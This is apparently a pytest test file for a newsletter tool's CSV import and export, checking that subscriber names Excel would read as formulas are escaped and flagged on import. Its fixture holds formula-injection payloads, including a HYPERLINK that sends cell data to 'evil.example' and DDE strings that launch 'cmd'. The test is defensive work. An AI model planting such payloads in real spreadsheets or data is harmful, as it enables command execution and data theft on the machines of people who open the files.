"""Formulas must not reach Excel: issue 12, item 5.

Names like `=HYPERLINK(...)`, `+cmd|' /C calc'!A0` and `@SUM(1)` in a list are written
by the tool into files made for Excel: the export, the receipt, the list itself after
an import. Every such cell must be text to Excel (a leading '), and import warns.
"""

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from projects import ISSUE, example_project

from newsletter.audience.csvfile import excel_safe, formula_like
from newsletter.audience.subscribers import load_list
from newsletter.cli import main

pytestmark = pytest.mark.usefixtures("state_engine")

NAMES = {
    "a@example.org": '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
    "b@example.org": "+cmd|' /C calc'!A0",
    "c@example.org": "@SUM(1)",
    "d@example.org": "-2+3+cmd|' /C calc'!A0",
    "e@example.org": "\t=1+1",
}
# What Excel would take for a formula: a cell that starts with one of these.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    example_project(tmp_path)
    monkeypatch.chdir(tmp_path)
    for name in ("NEWSLETTER_CONFIG", "NEWSLETTER_SMTP_HOST", "NEWSLETTER_SECRET"):
        monkeypatch.delenv(name, raising=False)
    with (tmp_path / "export.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["E-post", "Namn", "Saldo", "Telefon"])
        writer.writerows(
            [address, name, "-5", "+46 8 123 45 67"] for address, name in NAMES.items()
        )
    return tmp_path


def run(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


def cells(path: Path, delimiter: str = ";") -> list[str]:
    text = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_no_formula(values: list[str]) -> None:
    for cell in values:
        assert not (cell.startswith(DANGEROUS) and formula_like(cell)), cell


def test_import_warns_and_every_file_written_holds_text_only(project: Path) -> None:
    result = run("subscribers", "import", "medborgardialog", "export.csv")
    assert result.exit_code == 0, result.output
    for name in NAMES.values():
        assert f"starts with {name[0]!r}, so Excel would run it as a formula" in result.output
    # The list as saved, the export to a file and to the screen, the receipt: all text.
    listed = project / "subscribers" / "medborgardialog.csv"
    assert_no_formula(cells(listed))
    assert run("subscribers", "export", "medborgardialog", "-o", "out.csv").exit_code == 0
    assert_no_formula(cells(project / "out.csv"))
    screen = run("subscribers", "export", "medborgardialog").output
    assert_no_formula([c for row in csv.reader(io.StringIO(screen)) for c in row])
    assert run("send", ISSUE, "--yes").exit_code == 0
    receipt = project / ".newsletter" / "receipts" / "medborgardialog" / "2020-06.csv"
    values = cells(receipt)
    assert_no_formula(values)
    assert "'" + NAMES["c@example.org"] in values
    # A plain number stays a number; a phone number with + is text.
    assert "-5" in cells(project / "out.csv")
    assert "'+46 8 123 45 67" in cells(project / "out.csv")


def test_the_names_read_back_as_written(project: Path) -> None:
    run("subscribers", "import", "medborgardialog", "export.csv")
    run("subscribers", "add", "medborgardialog", "x@example.org", "--name", "X")  # saved again
    loaded = {s.email: s.name for s in load_list(project / "subscribers" / "medborgardialog.csv")
              .subscribers}  # fmt: skip
    for address, name in NAMES.items():
        assert loaded[address] == name.strip()


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+5,50", "+5,50"),
        ("Anna", "Anna"),
        ("'=already text", "'=already text"),
        (7, 7),
    ],
)
def test_excel_safe(cell: object, written: object) -> None:
    assert excel_safe(cell) == written
